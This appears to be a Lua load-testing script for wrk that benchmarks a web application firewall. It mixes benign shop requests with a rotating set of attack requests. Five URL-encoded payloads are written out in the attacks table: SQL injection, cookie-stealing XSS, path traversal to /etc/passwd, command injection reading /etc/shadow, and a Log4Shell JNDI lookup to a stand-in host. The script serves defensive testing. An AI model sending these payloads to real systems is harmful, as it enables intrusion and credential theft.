-- wafbench request mix, the same for every target. One cycle is 25
-- requests: 9 benign GETs with query strings, 7 static assets, 4 JSON
-- POSTs of about 1 KB, 4 form posts and 1 attack (4%), the attack rotating
-- through SQL injection, XSS, path traversal, command injection and
-- Log4Shell. X-Client-ID spreads the requests over 64 sticky clients so
-- wafcanary's 50/50 split sees both arms (the address is 127.0.0.1 for all).

local json = '{"order":{"id":"A-10293","customer":{"name":"Dana Whitfield","email":"dana@example.com","phone":"+44 20 7946 0958"},' ..
  '"shipping":{"street":"221B Baker Street","city":"London","postcode":"NW1 6XE","country":"GB"},' ..
  '"items":[{"sku":"WH-1000XM5","name":"Wireless headphones","qty":1,"price":279.99},' ..
  '{"sku":"USB-C-2M","name":"USB-C cable, 2 m","qty":2,"price":9.5},' ..
  '{"sku":"CASE-HARD","name":"Hard travel case","qty":1,"price":24.0}],' ..
  '"notes":"Please leave the parcel with the neighbour at number 12 if nobody answers the door. Thanks a lot!",' ..
  '"coupon":"SPRING-2024","gift":false,"newsletter":true,"payment":{"method":"card","last4":"4242","expiry":"09/27"},' ..
  '"meta":{"client":"web","version":"5.12.3","locale":"en-GB","currency":"GBP","session":"e3b0c44298fc1c149afbf4c8996fb924",' ..
  '"referrer":"https://shop.example.com/products/headphones?utm_source=newsletter&utm_medium=email"}}}'

local form = "name=Dana+Whitfield&email=dana%40example.com&subject=Order+A-10293&" ..
  "comment=" .. string.rep("Great+product%2C+arrived+quickly+and+works+well.+", 8)

local attacks = {
  {"GET", "/products?id=1%27%20OR%20%271%27%3D%271%27--%20", nil, nil},
  {"POST", "/blog/comment", "name=x&comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "application/x-www-form-urlencoded"},
  {"GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", nil, nil},
  {"GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow", nil, nil},
  {"GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", nil, nil},
}

local mix = {
  {"GET", "/search?q=wireless+headphones&page=2&sort=price"},
  {"GET", "/static/app.js"},
  {"POST", "/api/orders", json, "application/json"},
  {"GET", "/products?category=audio&brand=sony&min_price=50&max_price=300"},
  {"GET", "/static/style.css"},
  {"POST", "/blog/comment", form, "application/x-www-form-urlencoded"},
  {"GET", "/api/items?limit=20&offset=40&fields=id,name,price"},
  {"GET", "/img/logo.png"},
  {"GET", "/account/orders?status=shipped&year=2024"},
  {"POST", "/api/cart", json, "application/json"},
  {"GET", "/static/vendor.js"},
  {"GET", "/search?q=usb-c+cable+2m&lang=en"},
  {"POST", "/contact", form, "application/x-www-form-urlencoded"},
  {"ATTACK"},
  {"GET", "/img/hero.jpg"},
  {"GET", "/blog/posts?tag=reviews&page=3"},
  {"POST", "/api/orders", json, "application/json"},
  {"GET", "/products/wh-1000xm5?ref=home&variant=black"},
  {"GET", "/favicon.ico"},
  {"POST", "/newsletter", "email=dana%40example.com&consent=yes&source=footer", "application/x-www-form-urlencoded"},
  {"GET", "/help/articles?topic=returns&q=refund+time"},
  {"GET", "/static/fonts/inter.woff2"},
  {"POST", "/api/events", json, "application/json"},
  {"GET", "/search?q=noise+cancelling&page=1&per_page=24"},
  {"POST", "/support/tickets", "subject=Login+problem&message=" .. string.rep("I+cannot+log+in+since+yesterday.+", 6), "application/x-www-form-urlencoded"},
}

local common = {
  ["Host"] = "shop.example.com",
  ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  ["Accept-Language"] = "en-GB,en;q=0.7",
  ["Accept-Encoding"] = "identity",
  ["Cookie"] = "session=3f9a1c0b7d2e44a1; theme=dark",
}

local n = 0
local attack = 0

function init(args)
  -- Threads start at different points so they do not march in step.
  n = math.random(0, #mix - 1)
  attack = math.random(0, #attacks - 1)
  -- An optional think time in ms (wrk ... -- MS) paces each connection:
  -- the moderate-load runs use it.
  local think = tonumber(args[1] or "0") or 0
  if think > 0 then
    delay = function() return think end
  end
end

request = function()
  n = n + 1
  local e = mix[(n % #mix) + 1]
  if e[1] == "ATTACK" then
    attack = attack + 1
    e = attacks[(attack % #attacks) + 1]
  end
  local h = {}
  for k, v in pairs(common) do h[k] = v end
  h["X-Client-ID"] = "client-" .. (n % 64)
  if e[4] then h["Content-Type"] = e[4] end
  return wrk.format(e[1], e[2], h, e[3])
end

-- One machine-readable line for wafbench; wrk's own report is above it.
done = function(summary, latency, requests)
  io.write(string.format(
    'WAFBENCH {"requests":%d,"duration_us":%d,"status_errors":%d,"connect_errors":%d,"read_errors":%d,"write_errors":%d,"timeouts":%d,"p50_us":%d,"p99_us":%d}\n',
    summary.requests, summary.duration, summary.errors.status, summary.errors.connect,
    summary.errors.read, summary.errors.write, summary.errors.timeout,
    latency:percentile(50), latency:percentile(99)))
end
